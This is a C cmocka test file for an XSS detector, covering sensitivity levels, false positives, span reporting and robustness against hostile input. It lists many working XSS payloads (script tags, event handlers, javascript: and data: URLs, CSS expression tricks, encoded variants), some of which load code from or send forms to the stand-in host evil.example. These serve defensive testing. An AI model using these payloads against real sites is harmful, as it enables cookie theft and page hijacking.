/* test_detect_xss.c - XSS detector: representative attacks fire at the
 * right sensitivity, look-alike benign values do not, findings are well
 * formed, and hostile inputs stay bounded. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "detect.h"

/* Runs the detector and checks the finding is well formed when it fires. */
static int run(const char *s, size_t n, int sens, vigil__finding *f)
{
    memset(f, 0xA5, sizeof *f);
    int r = vigil__detect_xss(s, n, sens, f);
    if (r) {
        assert_non_null(f->detail);
        assert_true(f->score >= 1 && f->score <= 100);
        assert_true(f->off <= n);
        assert_true(f->len <= n - f->off);
    }
    return r;
}

static int fires(const char *s, int sens)
{
    vigil__finding f;
    return run(s, strlen(s), sens, &f);
}

/* Detail of the finding for s at sens, or "" when nothing fired. */
static const char *detail(const char *s, int sens)
{
    static vigil__finding f;
    return run(s, strlen(s), sens, &f) ? f.detail : "";
}

typedef struct {
    const char *s;
    int         min_sens; /* lowest sensitivity that must fire */
} vec;

/* Attacks and the lowest sensitivity at which each must fire; below it
 * they must not (so sensitivity levels keep their meaning). */
static const vec attacks[] = {
    {"<script>alert(1)</script>", 1},
    {"<ScRiPt+>prompt(1)</ScRiPt>", 1},
    {"<script\x0bsrc=//evil.example/x.js>", 1},
    {"<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>", 1},
    {"alert(a.source)</SCRIPT>", 2},
    {"<iframe>", 2},
    {"<base target=_blank>", 2},
    {"JavaScript:", 2},
    {"<meta charset=\"UTF-7\">", 2},
    {"\"><img src=x onerror=alert(1)>", 1},
    {"<svg/onload=alert(1)>", 1},
    {"<img\nsrc=x onerror\t=\"alert(1)\">", 1},
    {"<img src=`xx:xx`onerror=alert(1)>", 1},
    {"\" onmouseover=\"alert(1)", 1},
    {"' autofocus onfocus=alert(1) x='", 1},
    {"x onpointerenter=alert(1)", 1},
    {"<a href=\"jav&#x09;ascript:alert(1)\">x</a>", 1},
    {"<a href=\"java\tscript:alert(1)\">x</a>", 1},
    {"<a href=\"\x01javascript:alert(1)\">x</a>", 1},
    {"<a href=j&#97v&#97script&#x3A;&#97lert(1)>x", 1},
    {"javascript:alert(1)", 1},
    {"  JaVaScRiPt:alert(document.cookie)", 1},
    {"?goto=javascript:alert(1)\",", 1},
    {"vbscript:msgbox(1)", 1},
    {"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", 1},
    {"<a href=\"data:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMik+\">x</a>", 1},
    {"<iframe src=\"http://example.org/\"></iframe>", 1},
    {"<object data=\"x.swf\"></object>", 1},
    {"<embed src=\"x.swf\">", 1},
    {"<base href=\"//evil.example/\">", 1},
    {"<isindex type=image src=1>", 1},
    {"<FRAMESET><FRAME SRC=\"x\"></FRAMESET>", 1},
    {"<div style=\"width: expr/**/ession(alert(1))\">", 1},
    {"<IMG STYLE=\"xss:\\65xpression(alert(1))\">", 1},
    {"<DIV STYLE=\"background-image: url(javascript:alert(1))\">", 1},
    {"<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>", 1},
    {"<STYLE>BODY{-moz-binding:url(\"http://evil.example/x.xml#x\")}</STYLE>", 1},
    {"s\" style=\"x:expression(alert(1))", 1},
    {"<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">", 1},
    {"<link rel=stylesheet href=\"//evil.example/x.css\">", 1},
    {"<form action=\"//evil.example/\"><input name=p></form>", 1},
    {"<button formaction=javascript:alert(1)>x</button>", 1},
    {"<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">", 1},
    {"<!--<img src=\"--><img src=x onerror=alert(1)//\">", 1},
    {"<a title=\"<meta http-equiv=refresh content=0>\">x</a>", 1},
    {"<animate attributeName=\"onunload\" to=\"alert(1)\"/>", 1},
    /* sensitivity 2: JS contexts, templates, probes, weaker markup */
    {"';alert(1)//", 2},
    {"\"-alert(1)-\"", 2},
    {"\\';alert(String.fromCharCode(88,83,83))//", 2},
    {"alert`1`", 2},
    {"(alert)(1)", 2},
    {"prompt.call(null,1)", 2},
    {"new Function('alert(1)')()", 2},
    {"top[\"al\"+\"ert\"](1)", 2},
    {"(document)['cookie']", 2},
    {"document /*x*/ . cookie", 2},
    {"window.location='//evil.example'", 2},
    {"[].sort.call`${alert}1337`", 2},
    {"{{constructor.constructor('alert(1)')()}}", 2},
    {"&#x03c;", 2},
    {"%3C", 2},
    {"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", 2},
    {"<x onxxx=1", 2},
    {"<style>p{color:red}</style>", 2},
    {"<svg:svg>", 2},
    {"<xml src=\"//evil.example/x.xml\" id=x></xml>", 2},
    {"<math><a xlink:href=\"//evil.example/x.js\">x", 2},
    {"<?import namespace=\"t\" implementation=\"#default#time2\">", 1},
    {"'formaction=", 2},
    {"<div style=\"font-family:foo}color=red;\">", 2},
    {"<object data=\"data:text/html,x\">", 1},
    {"<a href=\"data:application/x-foo;base64,PHNjcmlwdD4=\">x</a>", 2},
    {"[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]", 2},
    /* techniques from the CRS 941 regression tests, generalised */
    {"x=x:url(javascript", 1},
    {"a:url( java script:alert(1))", 1},
    {"<div style=\"binding: url(x.xml#x)\">", 1},
    {"<importimplementation=", 1},
    {"<import namespace=t implementation = \"#default#time2\">", 1},
    {"https://example.org/?<f o r m", 2},
    {"1234<s/c/r/i/p/t>", 2},
    {"<:vmlframe src=x>", 2},
    {"<f.o.r.m>", 2},
    {"<form>", 3},
    {"<style>", 2},
    {"<link / x href /= >", 2},
    {"\xbc/script\xbe", 2},
    {"\xd0\xbc" "script\xd0\xbe" "alert(1)\xd0\xbc/script\xd0\xbe", 2},
    {"[ 1 ]. map . call`${eval}\\u0061lert\\x281\\x29`", 2},
    {"document.querySelector(\"p\").textContent=\"XSS\"", 2},
    {"document.createElement('script')", 2},
    {"el.insertAdjacentHTML('beforeend', x)", 2},
};

/* Look-alikes that must not fire at sensitivity 1 or 2. */
static const char *const benign[] = {
    "a < b and c > d",
    "<3",
    "I <3 this product",
    "x<y",
    "if x<y then swap",
    "Tom & Jerry",
    "Tom &amp; Jerry",
    "<bob@example.com>",
    "John Smith <john.smith@example.com>",
    "<b>bold</b>",
    "<p>",
    "<br>",
    "<br/><hr/>",
    "<p class=\"lead\">Intro</p>",
    "BLAH <A HREF=\"/PATH1/PATH2/PATH3\">FOO</A>",
    "<SPAN CLASS=\"SHOW-TEXT\">REGARDEZ</SPAN>",
    "<table width=\"99%\" border=\"0\" cellpadding=\"1\"'",
    "<img src=\"https://cdn.example.com/a.png\" alt=\"logo\">",
    "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==\" alt=\"\">",
    "<span style=\"color:red; font-weight:bold\">warning</span>",
    "<svg width=\"100\" height=\"100\"><circle cx=\"50\" cy=\"50\" r=\"40\"/></svg>",
    "<form method=\"post\"><input type=\"text\" name=\"q\"></form>",
    "<?xml version=\"1.0\"?><xml><element attribute_name=\"x\">v</element></xml>",
    "List<String>",
    "Map<String, Integer>",
    "#include <stdio.h>",
    "<!-- comment -->",
    "**bold** and _italic_ and [a link](https://example.com)",
    "O'Brien",
    "select your plan",
    "He said \"hello\" and then left; nobody noticed.",
    "It's 5 o'clock somewhere; let's go (maybe)!",
    "JavaScript: Basics of JavaScript Language",
    "JavaScript: The Good Parts",
    "data: text/html explained",
    "regular expression (regex) tutorial",
    "Expression (math): 2x+1",
    "scroll-behavior: smooth",
    "please confirm (yes/no)",
    "Alert level (high)",
    "I tried onclick=\"\" but it didn't work",
    "onload event not firing",
    "status online=true",
    "https://example.com/search?q=shoes&size=42&color=red",
    "https://x.example/?onload=1&onerror=2",
    "http://localhost:8080/health",
    "mailto:someone@example.com?subject=Hello",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ",
    "{\"event\":\"onclick\",\"count\":5}",
    "{\"name\":\"Alice\",\"age\":30}",
    "Hello {{name}}, welcome!",
    "1+1=2",
    "x = (a + b) / 2",
    "price >= 100 and price <= 200",
    "report.pdf",
    "/docs/intro",
    "john.smith@example.com",
    "2023-10-05T14:48:00Z",
    "document.getElementById is used",
    "window size",
    "AT&T; R&D; Q&A",
    "document.cookie policy",
    "top['deals'] this week",
    "<meta name=\"viewport\" content=\"width=device-width\">",
    "<link rel=\"icon\" href=\"/favicon.ico\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">",
    "<svg><use xlink:href=\"#icon\"></use></svg>",
    "notification_type=alert",
    "{\"type\":\"alert\",\"message\":\"Disk almost full\"}",
    /* near misses of the rules added for the CRS techniques */
    "x=x:url(image.png)",
    "a <b o l d> word",
    "I <3 u s",
    "<i m g src=x>",
    "M\xc3\xbcller \xc3\xbc" "ber Stra\xc3\x9f" "e, \xc2\xbc cup",
    "\xd0\xbc" "script\xd0\xbe" "alert(1)\xd0\xbc/script\xd0",
    "call `npm install` first",
    "Please confirm `yes`",
    "el.textContent = \"hi\"",
    "document.body is the root",
    "e.g. the cookie jar. Location: Berlin. Name: Ann",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
    "like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "https://shop.example.org/p/1234?utm_source=news&utm_medium=email&onboarding=done",
    "import java.util.List; // implementation detail",
    "",
};

static void test_attacks_fire_at_their_level(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
        for (int sens = 1; sens <= 3; sens++) {
            int want = sens >= attacks[i].min_sens;
            int got = fires(attacks[i].s, sens);
            if (got != want)
                fail_msg("sens %d: %s -> %d, want %d", sens, attacks[i].s, got, want);
        }
    }
}

static void test_benign_quiet(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
        for (int sens = 1; sens <= 2; sens++) {
            if (fires(benign[i], sens))
                fail_msg("sens %d: false positive on %s (%s)", sens, benign[i],
                         detail(benign[i], sens));
        }
    }
}

static void test_details_and_spans(void **state)
{
    (void)state;
    vigil__finding f;
    const char    *s = "hello \"><img src=x onerror=alert(1)>";
    assert_int_equal(run(s, strlen(s), 1, &f), 1);
    assert_string_equal(f.detail, "event handler attribute");
    assert_memory_equal(s + f.off, "onerror", 7);

    s = "q=<script>alert(1)</script>";
    assert_int_equal(run(s, strlen(s), 1, &f), 1);
    assert_string_equal(f.detail, "script tag");
    assert_int_equal(f.off, 2);

    assert_string_equal(detail("<a href=\"javascript:alert(1)\">", 1), "javascript: URL");
    assert_string_equal(detail("<iframe src=x>", 1), "dangerous tag");
    assert_string_equal(detail("<p style=\"x:expression(alert(1))\">", 1), "CSS expression()");
    assert_string_equal(detail("';alert(1)//", 2), "script call in JS context");
}

static void test_null_and_binary_input(void **state)
{
    (void)state;
    vigil__finding f;
    assert_int_equal(vigil__detect_xss(NULL, 0, 2, &f), 0);
    assert_int_equal(vigil__detect_xss("<script>", 8, 2, NULL), 0);
    assert_int_equal(vigil__detect_xss("<script>", 0, 2, &f), 0);
    /* out-of-range sensitivities are clamped, not rejected */
    assert_int_equal(vigil__detect_xss("<script>", 8, 0, &f), 1);
    assert_int_equal(vigil__detect_xss("';alert(1)//", 12, 99, &f), 1);

    /* embedded NULs: the value is a byte string, not a C string */
    static const char nul[] = "x\0<svg onload=alert(1)>";
    assert_int_equal(run(nul, sizeof nul - 1, 1, &f), 1);
    static const char cut[] = "<img src=x onerror=alert(1)>";
    assert_int_equal(run(cut, 5, 3, &f), 0); /* only "<img " is looked at */

    /* every prefix of an attack, and random bytes, give a defined result */
    const char *a = "<a href=\"jav&#x09;ascript:alert(1)\" style='x:expr/**/ession(1)' onclick=x>";
    for (size_t k = 0; k <= strlen(a); k++)
        for (int sens = 1; sens <= 3; sens++)
            (void)run(a, k, sens, &f);
    unsigned char buf[512];
    uint32_t      seed = 12345;
    for (int it = 0; it < 2000; it++) {
        for (size_t k = 0; k < sizeof buf; k++) {
            seed = seed * 1103515245u + 12345u;
            buf[k] = (unsigned char)(seed >> 16);
        }
        (void)run((const char *)buf, (size_t)(seed % sizeof buf), 1 + it % 3, &f);
    }
}

/* The pre-scan reads 16 bytes at a time with an overlapping last block:
 * an attack must be found wherever it sits relative to those blocks, and
 * a benign value stays quiet at every length. */
static void test_block_offsets(void **state)
{
    (void)state;
    static const char *const attacks_any_offset[] = {
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
        " onpointerenter=alert(1)", " <a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        " style=\"x:expr/**/ession(alert(1))\"", ";alert(1)//", " document.cookie=1",
        " {{constructor.constructor('alert(1)')()}}", " <f o r m", " x:url(javascript:alert(1))",
    };
    char           buf[160];
    vigil__finding f;
    for (size_t a = 0; a < sizeof attacks_any_offset / sizeof attacks_any_offset[0]; a++) {
        size_t l = strlen(attacks_any_offset[a]);
        for (size_t pre = 0; pre <= 40; pre++) {
            for (size_t post = 0; post <= 20; post += 5) {
                memset(buf, 'w', pre);
                memcpy(buf + pre, attacks_any_offset[a], l);
                memset(buf + pre + l, ' ', post);
                if (!run(buf, pre + l + post, 2, &f))
                    fail_msg("missed at offset %zu (+%zu): %s", pre, post, attacks_any_offset[a]);
            }
        }
    }
    static const char prose[] =
        "Thanks for the reply! I checked the settings: the \"auto-save\" option is on (see "
        "attached). It fails after 3-4 minutes; the log says 'timeout=30s, retries=2'. Could you "
        "look? The invoice #4521 shows $49.99 instead of $39.99 - odd. Best, Ann & the team.";
    for (size_t k = 0; k <= sizeof prose - 1; k++) {
        if (run(prose, k, 2, &f) || run(prose + k, sizeof prose - 1 - k, 2, &f))
            fail_msg("false positive on a cut of the prose at %zu (%s)", k, f.detail);
    }
}

/* Inputs built to provoke rescanning: each must finish (linear passes),
 * and the benign-shaped ones must not fire. */
static void test_hostile_sizes(void **state)
{
    (void)state;
    static const char *const pats[] = {
        "<a x='", "<a x=\"<a ", "<a/", "<style>", "{{", "j\t", "&#0000",
        "a.", "/*", "=on", "<!--", "x(", "<a style='",
    };
    const size_t n = (size_t)1 << 20;
    char        *b = malloc(n);
    assert_non_null(b);
    vigil__finding f;
    for (size_t p = 0; p < sizeof pats / sizeof pats[0]; p++) {
        size_t l = strlen(pats[p]);
        for (size_t i = 0; i < n; i++)
            b[i] = pats[p][i % l];
        for (int sens = 1; sens <= 3; sens++)
            (void)run(b, n, sens, &f);
    }
    memset(b, 'a', n);
    assert_int_equal(run(b, n, 3, &f), 0);
    memcpy(b + n - 30, "<img src=x onerror=alert(1)>", 28);
    assert_int_equal(run(b, n, 1, &f), 1);
    assert_true(f.off >= n - 30);
    free(b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_attacks_fire_at_their_level),
        cmocka_unit_test(test_benign_quiet),
        cmocka_unit_test(test_details_and_spans),
        cmocka_unit_test(test_null_and_binary_input),
        cmocka_unit_test(test_block_offsets),
        cmocka_unit_test(test_hostile_sizes),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
